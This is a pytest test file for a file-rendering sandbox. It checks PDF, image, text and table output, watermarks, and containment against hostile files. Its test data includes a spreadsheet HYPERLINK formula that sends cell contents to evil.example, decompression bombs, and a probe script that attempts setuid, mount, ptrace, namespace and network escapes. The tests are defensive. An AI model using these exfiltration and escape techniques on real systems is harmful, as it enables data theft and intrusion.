"""What the sandbox makes of files, and what the files cannot make of the sandbox."""

from __future__ import annotations

import io
import json
import os
import socket
import struct
import sys
import time
from pathlib import Path

import pytest
from PIL import Image, ImageChops

from portal.reading import sandbox
from portal.reading.rendering import inside, sheets, wire
from portal.reading.rendering.wire import Answer, Asked, Garbled
from tests import parts
from tests.reading import documents
from tests.reading.documents import HIDDEN, WORDS
from tests.servers import wait_for

MARK = "jonas.berg@mail.example · 26 November 2026, 14:48 UTC · 7c1f09e2"


def ask(kind: str, want: str, data: bytes, page: int = 1, mark: str = "") -> Answer:
    """Of a file of our own making, in this process: a sandbox's start costs more than most answers."""
    return inside.answer(Asked(kind, want, page, mark), data)


def ask_shut_in(kind: str, want: str, data: bytes, suffix: str = "") -> Answer:
    parts.need("bwrap")
    return sandbox.run(Asked(kind, want, suffix=suffix), [data])


def drawn(answer: Answer) -> Image.Image:
    assert answer.state == wire.OK
    return Image.open(io.BytesIO(answer.data), formats=["WEBP"]).convert("RGB")


def test_a_pdf_has_pages_pictures_and_words() -> None:
    data = documents.pdf("first", WORDS)
    assert ask("pdf", wire.PAGES, data).pages == 2
    assert ask("pdf", wire.TEXT, data, page=2).text == WORDS
    page = drawn(ask("pdf", wire.SHOWN, data, page=2))
    assert page.height > page.width > 1000
    assert min(page.convert("L").get_flattened_data()) < 60, "there is ink on it"
    assert ask("pdf", wire.SHOWN, data, page=3).state == wire.FAILED


def test_the_mark_is_on_every_part_of_the_page_and_its_words_can_still_be_read() -> None:
    data = documents.pdf(WORDS)
    plain, marked = (drawn(ask("pdf", wire.SHOWN, data, mark=mark)) for mark in ("", MARK))
    changed = ImageChops.difference(plain.convert("L"), marked.convert("L")).point(lambda value: 255 * (value > 6))
    third_x, third_y = plain.width // 3, plain.height // 3
    for column in range(3):
        for row in range(3):
            left, top = column * third_x, row * third_y
            assert changed.crop((left, top, left + third_x, top + third_y)).getbbox(), (column, row)
    middle = marked.convert("L").crop((0, third_y, plain.width, 2 * third_y))
    assert 255 - min(middle.get_flattened_data()) <= 255 * 0.12, "the mark is faint"


def test_a_marked_logo_keeps_its_size_in_the_text_and_a_photograph_does_not() -> None:
    for side, inline, page in ((60, 60, sheets.LEAST_MARKED), (300, sheets.LEAST_MARKED, sheets.LEAST_MARKED)):
        made = io.BytesIO()
        Image.new("RGB", (side, side), "green").save(made, "PNG")
        sizes = [
            max(drawn(ask("picture", want, made.getvalue(), mark=MARK)).size) for want in (wire.INLINE, wire.SHOWN)
        ]
        assert sizes == [inline, page]


def test_a_page_as_large_as_a_field_becomes_a_picture_of_bounded_size() -> None:
    page = drawn(ask("pdf", wire.SHOWN, documents.pdf(WORDS, box="0 0 1000000 900000")))
    assert max(page.size) == sheets.LONGEST_SIDE
    assert ask("pdf", wire.SHOWN, documents.pdf(WORDS, box="0 0 0 0")).data[:4] in (b"RIFF", b"")


@pytest.mark.parametrize(
    ("kind", "data", "state"),
    [
        ("pdf", documents.locked_pdf(), wire.PASSWORD),
        ("pdf", b"no PDF at all", wire.FAILED),
        ("pdf", b"", wire.FAILED),
        ("picture", documents.picture_bomb(), wire.LARGE),
        ("picture", b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>", wire.FAILED),
        ("picture", documents.photo()[:300], wire.FAILED),
        ("office", documents.odt(WORDS, locked=True), wire.PASSWORD),
        ("office", b"\xd0\xcf\x11\xe0" + bytes(600) + "EncryptedPackage".encode("utf-16-le"), wire.PASSWORD),
        ("program", b"x", wire.FAILED),
    ],
)
def test_what_cannot_be_shown_says_why(kind: str, data: bytes, state: str) -> None:
    want = wire.PDF if kind == "office" else wire.SHOWN
    assert ask_shut_in(kind, want, data, "odt").state == state


def test_a_pdf_bomb_costs_its_sandbox_and_nothing_else() -> None:
    begun = time.monotonic()
    answer = ask_shut_in("pdf", wire.SHOWN, documents.pdf_bomb())
    assert answer.state in (wire.FAILED, wire.OK)
    assert time.monotonic() - begun < 2 * sandbox.SECONDS, "it is ended at the latest when its time is over"


def test_a_photograph_keeps_its_orientation_and_loses_what_it_tells() -> None:
    data = documents.photo(turned=True)
    assert HIDDEN in data
    answer = ask("picture", wire.SHOWN, data)
    assert HIDDEN not in answer.data
    picture = drawn(answer)
    assert picture.size == (40, 60)
    (red, _, blue), (red_below, _, blue_below) = picture.getpixel((20, 5)), picture.getpixel((20, 55))
    assert red > blue and blue_below > red_below, "what was left is at the top"


def test_text_in_any_common_charset_is_shown_page_by_page() -> None:
    lines = "\n".join(f"Zeile {number} für Jörg" for number in range(250))
    for charset in ("utf-8", "utf-8-sig", "utf-16", "cp1252"):
        answer = ask("text", wire.TEXT, lines.encode(charset), page=3)
        assert (answer.state, answer.pages) == (wire.OK, 3)
        assert answer.text.splitlines()[-1] == "Zeile 249 für Jörg"
    assert drawn(ask("text", wire.SHOWN, lines.encode())).height <= sheets.LONGEST_SIDE


def test_a_formula_in_a_table_is_text() -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1;"x")'
    table = f'name;value\nJörg;"{evil.replace(chr(34), chr(34) * 2)}"\n'
    assert ask("table", wire.TEXT, table.encode()).rows == (("name", "value"), ("Jörg", evil))
    many = ask("table", wire.TEXT, b"a,b\n" * 1_000_000, page=2)
    assert (len(many.rows), many.rows[0]) == (100, ("a", "b"))
    assert drawn(ask("table", wire.SHOWN, table.encode())).size[0] > 0


GREEDY = """
import json, os, sys
from portal.reading.rendering import inside
from portal.reading.rendering.wire import Answer
inside._limit("pdf")
seen = {}
for name, work in {
    "memory": lambda: bytearray(1 << 30), "file": lambda: os.write(os.open("/tmp/x", 65), b"x"), "process": os.fork
}.items():
    try:
        work(); seen[name] = "done"
    except (MemoryError, OSError) as error:
        seen[name] = type(error).__name__
sys.stdout.buffer.write(Answer("ok", text=json.dumps(seen)).encode())
"""


def test_memory_files_and_processes_have_bounds(monkeypatch: pytest.MonkeyPatch) -> None:
    put_in(GREEDY, monkeypatch)
    seen = json.loads(ask_shut_in("text", wire.PAGES, b"x").text)
    assert seen["memory"] == "MemoryError"
    assert seen["file"] == "OSError"
    if os.geteuid() != 0:  # the kernel does not count the superuser's processes
        assert seen["process"] != "done"


LOOK = """
import ctypes, os, socket, sys, json
libc = ctypes.CDLL(None, use_errno=True)
def called(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
from portal.reading.rendering.wire import Answer
seen = {"root": sorted(os.listdir("/")), "etc": sorted(os.listdir("/etc")), "environment": sorted(os.environ)}
seen["app"] = [os.path.join(at, name) for at, _, names in os.walk("/app") for name in names if "pycache" not in at]
for name, work in {
    "interfaces": socket.if_nameindex, "network": lambda: socket.create_connection(("127.0.0.1", %d), 1),
    "unix": lambda: [os.stat(place) for place in ("/run", "/var/run")],
    "local": lambda: socket.socket(socket.AF_UNIX),
    "root_write": lambda: open("/x", "w"), "system_write": lambda: open("/usr/x", "w"),
    "device_write": lambda: open("/dev/shm/x", "w"), "data": lambda: os.listdir(%r), "kill": lambda: os.kill(%d, 0),
    "user": lambda: os.setuid(0), "internet": lambda: socket.socket(socket.AF_INET),
    "netlink": lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW), "chroot": lambda: os.chroot("/usr"),
    "namespace": lambda: called(libc.unshare(0x10000000)), "forked": lambda: called(libc.syscall(56, 0x10000011, 0, 0)),
    "mount": lambda: called(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)),
    "ptrace": lambda: called(libc.ptrace(0, 0, 0, 0)), "keys": lambda: called(libc.syscall(250, 0, -3, 1)),
}.items():
    try:
        work(); seen[name] = "done"
    except (OSError, AttributeError) as error:
        seen[name] = type(error).__name__
seen["scratch"] = open("/tmp/x", "w").write("x")
sys.stdout.buffer.write(Answer("ok", text=json.dumps(seen)).encode())
"""


def put_in(code: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Another program in the same sandbox."""
    real = sandbox.command
    start = f"import sys; sys.path.insert(0, '/app'); exec({code!r})"
    monkeypatch.setattr(sandbox, "command", lambda walls: (*real(walls)[:-1], start))


def test_what_takes_the_sandbox_over_sees_no_network_no_file_of_ours_and_no_other_process(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    (tmp_path / "secret").write_text("x")
    monkeypatch.setenv("LETTERLOCK_SECRET", "x")
    with socket.create_server(("127.0.0.1", 0)) as listening:
        code = LOOK % (listening.getsockname()[1], str(tmp_path), os.getpid())
        put_in(code, monkeypatch)
        seen = json.loads(ask_shut_in("text", wire.PAGES, b"x").text)
        listening.settimeout(0.01)
        with pytest.raises(TimeoutError):
            listening.accept()
    # Python's own environment can lie anywhere, and the way to it is there.
    python = {Path(prefix).parts[1] for prefix in (sys.prefix, sys.base_prefix)}
    assert set(seen["root"]) <= {"app", "bin", "dev", "etc", "lib", "lib32", "lib64", "libx32", "sbin", "tmp", "usr",
                                 "var", *python}  # fmt: skip
    assert set(seen["etc"]) <= {"fonts", "ld.so.cache", "libreoffice"}
    assert {Path(name).parent.name for name in seen["app"]} == {"rendering"}
    assert set(seen["environment"]) <= {"HOME", "TMPDIR", "LANG", "PATH", "PWD", "LC_CTYPE"}
    allowed = [name for name, what in seen.items() if what == "done"]
    assert allowed == ["local"]
    assert seen["scratch"] == 1


def test_what_takes_too_long_is_ended_with_all_that_it_started(monkeypatch: pytest.MonkeyPatch) -> None:
    sign = f"sandbox-{os.getpid()}-{time.time_ns()}"
    code = f"import subprocess, time; subprocess.Popen(['/usr/bin/sleep', '600', '--', '{sign}']); time.sleep(600)"
    put_in(code, monkeypatch)
    monkeypatch.setattr(sandbox, "SECONDS", 0.5)
    assert ask_shut_in("text", wire.PAGES, b"x").state == wire.FAILED
    wait_for(lambda: not running(sign), 30, "something runs on, and would for ten minutes")


def running(sign: str) -> list[Path]:
    return [path for path in Path("/proc").glob("[0-9]*/cmdline") if sign.encode() in _line(path)]


def _line(path: Path) -> bytes:
    try:
        return path.read_bytes()
    except OSError:
        return b""


HEADS = (
    '{"state":"ok","pages":1,"text":1,"rows":[]}',
    '{"state":"ok","pages":true,"text":"","rows":[]}',
    '{"state":"ok","pages":-1,"text":"","rows":[]}',
    '{"state":"fine","pages":1,"text":"","rows":[]}',
    '{"state":"ok","pages":1,"text":"","rows":[[1]]}',
    "[" * 10_000,
    "[]",
    "{}",
)


@pytest.mark.parametrize(
    "given", [b"", b"\0\0", b"\xff\xff\xff\xff", *map(str.encode, HEADS)], ids=range(3 + len(HEADS))
)
def test_an_answer_that_is_none_is_not_believed(given: bytes) -> None:
    with pytest.raises(Garbled):
        Answer.decode(struct.pack(">I", len(given)) + given if len(given) > 4 else given)
